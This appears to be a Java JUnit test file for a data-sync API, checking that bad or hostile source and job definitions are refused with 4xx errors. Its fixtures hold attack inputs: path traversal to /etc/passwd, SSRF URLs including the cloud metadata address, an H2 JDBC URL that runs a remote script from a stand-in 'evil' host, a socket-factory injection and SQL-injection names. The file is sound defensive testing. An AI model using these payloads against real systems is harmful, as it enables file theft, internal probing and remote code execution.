package dev.corelake.sync;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import static dev.corelake.errors.test.ProblemAssert.assertThatProblem;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * The API's answers to bad input: each a conformant problem with a 4xx status and the
 * code naming the problem, never a 500, and nothing stored. Also what the API shows of a
 * source (the password's secret by name only).
 *
 * @author Corelake
 */
class SyncApiTests extends AbstractSyncTests {

	private static final String SOURCES = "/api/v1/sync/sources";

	private static final String JOBS = "/api/v1/sync/jobs";

	static Stream<Arguments> badSources() {
		return Stream.of(Arguments.of("malformed JSON", "{\"name\":", 400, "MALFORMED_REQUEST"),
				Arguments.of("unknown member", "{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\",\"x\":1}", 400,
						"MALFORMED_REQUEST"),
				Arguments.of("unknown kind", "{\"name\":\"s1\",\"kind\":\"ftp\",\"path\":\"a.csv\"}", 400,
						"MALFORMED_REQUEST"),
				Arguments.of("upper-case name", body("S1", "csv", "path", "a.csv"), 400, "VALIDATION_FAILED"),
				Arguments.of("traversal in a name", body("../s1", "csv", "path", "a.csv"), 400, "VALIDATION_FAILED"),
				Arguments.of("no kind", "{\"name\":\"s1\",\"path\":\"a.csv\"}", 400, "VALIDATION_FAILED"),
				Arguments.of("path and url",
						"{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\","
								+ "\"url\":\"https://example.com/a.csv\"}",
						400, "VALIDATION_FAILED"),
				Arguments.of("jdbc without url", "{\"name\":\"s1\",\"kind\":\"jdbc\"}", 400, "VALIDATION_FAILED"),
				Arguments.of("bad column type",
						"{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\",\"columns\":"
								+ "[{\"name\":\"a\",\"type\":\"varchar2\"}]}",
						400, "VALIDATION_FAILED"),
				Arguments.of("two-character delimiter",
						"{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\"," + "\"delimiter\":\";;\"}", 400,
						"VALIDATION_FAILED"),
				Arguments.of("path traversal", body("s1", "csv", "path", "../../etc/passwd"), 400,
						"SOURCE_NOT_ALLOWED"),
				Arguments.of("absolute path outside", body("s1", "csv", "path", "/etc/passwd"), 400,
						"SOURCE_NOT_ALLOWED"),
				Arguments.of("loopback URL", body("s1", "csv", "url", "http://127.0.0.1:8084/x.csv"), 400,
						"SOURCE_NOT_ALLOWED"),
				Arguments.of("metadata URL", body("s1", "jsonl", "url", "http://169.254.169.254/latest/meta-data"), 400,
						"SOURCE_NOT_ALLOWED"),
				Arguments.of("decimal IP URL", body("s1", "csv", "url", "http://2130706433/x.csv"), 400,
						"SOURCE_NOT_ALLOWED"),
				Arguments.of("file URL", body("s1", "csv", "url", "file:///etc/passwd"), 400, "SOURCE_NOT_ALLOWED"),
				Arguments.of("host not on the allowlist", body("s1", "csv", "url", "https://example.com/a.csv"), 400,
						"SOURCE_NOT_ALLOWED"),
				Arguments.of("H2 INIT script",
						body("s1", "jdbc", "url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"), 400,
						"SOURCE_NOT_ALLOWED"),
				Arguments.of("H2 file database", body("s1", "jdbc", "url", "jdbc:h2:file:/data/sync/sync"), 400,
						"SOURCE_NOT_ALLOWED"),
				Arguments.of("PostgreSQL socket factory",
						body("s1", "jdbc", "url", "jdbc:postgresql://db/x?socketFactory=org.example.Evil"), 400,
						"SOURCE_NOT_ALLOWED"),
				Arguments.of("other driver", body("s1", "jdbc", "url", "jdbc:mysql://db/x"), 400, "SOURCE_NOT_ALLOWED"),
				Arguments.of("unknown secret",
						"{\"name\":\"s1\",\"kind\":\"jdbc\",\"url\":\"jdbc:postgresql://db/x\","
								+ "\"passwordSecret\":\"nope\"}",
						400, "SECRET_NOT_FOUND"),
				Arguments.of("secret name with a slash",
						"{\"name\":\"s1\",\"kind\":\"jdbc\","
								+ "\"url\":\"jdbc:postgresql://db/x\",\"passwordSecret\":\"../etc\"}",
						400, "VALIDATION_FAILED"),
				Arguments.of("huge description", "{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\","
						+ "\"description\":\"" + "x".repeat(3000) + "\"}", 400, "VALIDATION_FAILED"));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("badSources")
	void createSourceWhenInputIsBadThenProblemAndNothingStored(String what, String body, int status, String code) {
		Api.Answer answer = api().post(SOURCES, body);
		assertThatProblem(answer.status(), answer.contentType(), answer.body()).isConformant()
			.hasStatus(status)
			.hasCode(code);
		assertThat(api().get(SOURCES + "/s1").status()).isEqualTo(404);
	}

	@Test
	void createSourceWhenSymlinkLeadsOutOfTheInboxThenRefused() throws IOException {
		Path link = fixtures().inbox().resolve("escape.csv");
		Files.deleteIfExists(link);
		Files.createSymbolicLink(link, Path.of("/etc/hostname"));
		Api.Answer answer = api().post(SOURCES, body("escape", "csv", "path", "escape.csv"));
		assertThatProblem(answer.status(), answer.contentType(), answer.body()).isConformant()
			.hasStatus(400)
			.hasCode("SOURCE_NOT_ALLOWED")
			.hasDetailContaining("symbolic link");
	}

	@Test
	void createSourceWhenWrongContentTypeThen415() {
		Api.Answer answer = api().raw("POST", SOURCES, "text/plain", "name=x");
		assertThatProblem(answer.status(), answer.contentType(), answer.body()).isConformant().hasStatus(415);
	}

	@Test
	void sourceWhenReadThenThePasswordAppearsOnlyAsTheNameOfItsSecret() {
		postgresSource("shown");
		Api.Answer answer = api().get(SOURCES + "/shown");
		assertThat(answer.status()).isEqualTo(200);
		assertThat(answer.json()).containsEntry("passwordSecret", "source-db")
			.containsEntry("user", "postgres")
			.containsEntry("kind", "jdbc")
			.doesNotContainKey("password");
		assertThat(answer.body()).doesNotContain("\"postgres\",\"passwordSecret\":\"postgres\"");
		assertThat(api().get(SOURCES + "?size=200").body()).contains("\"shown\"");
		Api.Answer duplicate = api().post(SOURCES,
				Map.of("name", "shown", "kind", "jdbc", "url", fixtures().postgresUrl()));
		assertThatProblem(duplicate.status(), duplicate.contentType(), duplicate.body()).hasStatus(409)
			.hasCode("SOURCE_ALREADY_EXISTS");
	}

	@Test
	void deleteSourceWhenJobsUseItThen409AndWhenNotThen204() {
		postgresSource("in-use");
		job(Map.of("name", "uses-it", "source", "in-use", "dataset", "uses-it", "table", "x"));
		Api.Answer refused = api().delete(SOURCES + "/in-use");
		assertThatProblem(refused.status(), refused.contentType(), refused.body()).hasStatus(409)
			.hasCode("SOURCE_IN_USE");
		assertThat(api().delete(JOBS + "/uses-it").status()).isEqualTo(204);
		assertThat(api().delete(SOURCES + "/in-use").status()).isEqualTo(204);
		Api.Answer gone = api().get(SOURCES + "/in-use");
		assertThatProblem(gone.status(), gone.contentType(), gone.body()).hasStatus(404).hasCode("SOURCE_NOT_FOUND");
	}

	static Stream<Arguments> badJobs() {
		return Stream.of(
				Arguments.of("unknown source", job("j1", Map.of("source", "no-such")), 404, "SOURCE_NOT_FOUND"),
				Arguments.of("jdbc without table", job("j1", java.util.Collections.singletonMap("table", null)), 400,
						"VALIDATION_FAILED"),
				Arguments.of("table with SQL", job("j1", Map.of("table", "x; drop table y")), 400, "VALIDATION_FAILED"),
				Arguments.of("incremental without cursor", job("j1", Map.of("mode", "incremental")), 400,
						"VALIDATION_FAILED"),
				Arguments.of("cursor in full mode", job("j1", Map.of("cursorColumn", "id")), 400, "VALIDATION_FAILED"),
				Arguments.of("unknown mode", job("j1", Map.of("mode", "sometimes")), 400, "MALFORMED_REQUEST"),
				Arguments.of("bad cron", job("j1", Map.of("schedule", "every day")), 400, "VALIDATION_FAILED"),
				Arguments.of("negative throttle", job("j1", Map.of("throttle", Map.of("rowsPerSecond", -5))), 400,
						"VALIDATION_FAILED"),
				Arguments.of("percent over 100", job("j1", Map.of("rejectLimit", Map.of("percent", 150))), 400,
						"VALIDATION_FAILED"),
				Arguments.of("tiny chunk", job("j1", Map.of("chunkRows", 5)), 400, "VALIDATION_FAILED"),
				Arguments.of("float for an integer", job("j1", Map.of("chunkRows", 5000.5)), 400, "MALFORMED_REQUEST"),
				Arguments.of("bad dataset name", job("j1", Map.of("dataset", "Sales Orders")), 400,
						"VALIDATION_FAILED"),
				Arguments.of("bad key column", job("j1", Map.of("keyColumns", List.of("id; --"))), 400,
						"VALIDATION_FAILED"));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("badJobs")
	void createJobWhenInputIsBadThenProblemAndNothingStored(String what, Map<String, Object> body, int status,
			String code) {
		if (api().get(SOURCES + "/job-source").status() == 404) {
			postgresSource("job-source");
		}
		Api.Answer answer = api().post(JOBS, body);
		assertThatProblem(answer.status(), answer.contentType(), answer.body()).isConformant()
			.hasStatus(status)
			.hasCode(code);
		assertThat(api().get(JOBS + "/j1").status()).isEqualTo(404);
	}

	@Test
	void jobWhenCreatedWithScheduleThenShownWithItsNextRunAndDuplicatesRefused() {
		postgresSource("scheduled-source");
		job(Map.of("name", "nightly", "source", "scheduled-source", "dataset", "nightly", "table", "x", "schedule",
				"0 2 * * *"));
		Api.Answer answer = api().get(JOBS + "/nightly");
		assertThat(answer.json()).containsEntry("schedule", "0 2 * * *")
			.containsEntry("mode", "full")
			.containsKey("nextRunAt");
		assertThat((String) answer.json().get("nextRunAt")).endsWith("T02:00:00Z");
		Api.Answer duplicate = api().post(JOBS,
				Map.of("name", "nightly", "source", "scheduled-source", "dataset", "nightly", "table", "x"));
		assertThatProblem(duplicate.status(), duplicate.contentType(), duplicate.body()).hasStatus(409)
			.hasCode("JOB_ALREADY_EXISTS");
	}

	@Test
	void runsWhenAddressedBadlyThenProblems() {
		Api.Answer missing = api().get("/api/v1/sync/runs/999999");
		assertThatProblem(missing.status(), missing.contentType(), missing.body()).isConformant()
			.hasStatus(404)
			.hasCode("RUN_NOT_FOUND");
		Api.Answer text = api().get("/api/v1/sync/runs/abc");
		assertThatProblem(text.status(), text.contentType(), text.body()).isConformant().hasStatus(400);
		Api.Answer zero = api().get("/api/v1/sync/runs/0");
		assertThatProblem(zero.status(), zero.contentType(), zero.body()).isConformant().hasStatus(400);
		Api.Answer noJob = api().post(JOBS + "/no-such-job/runs");
		assertThatProblem(noJob.status(), noJob.contentType(), noJob.body()).isConformant()
			.hasStatus(404)
			.hasCode("SYNC_JOB_NOT_FOUND");
		Api.Answer logs = api().get("/api/v1/sync/runs/999999/logs");
		assertThatProblem(logs.status(), logs.contentType(), logs.body()).hasStatus(404).hasCode("RUN_NOT_FOUND");
		Api.Answer rejects = api().get("/api/v1/sync/runs/999999/rejects");
		assertThatProblem(rejects.status(), rejects.contentType(), rejects.body()).hasStatus(404)
			.hasCode("RUN_NOT_FOUND");
		Api.Answer page = api().get(JOBS + "?size=0");
		assertThatProblem(page.status(), page.contentType(), page.body()).isConformant().hasStatus(400);
	}

	private static String body(String name, String kind, String key, String value) {
		return "{\"name\":\"" + name.replace("\"", "\\\"") + "\",\"kind\":\"" + kind + "\",\"" + key + "\":\""
				+ value.replace("\\", "\\\\").replace("\"", "\\\"") + "\"}";
	}

	private static Map<String, Object> job(String name, Map<String, Object> overrides) {
		Map<String, Object> body = new LinkedHashMap<>();
		body.put("name", name);
		body.put("source", "job-source");
		body.put("dataset", "job-target");
		body.put("table", "some_table");
		overrides.forEach((key, value) -> {
			if (value == null) {
				body.remove(key);
			}
			else {
				body.put(key, value);
			}
		});
		return body;
	}

}
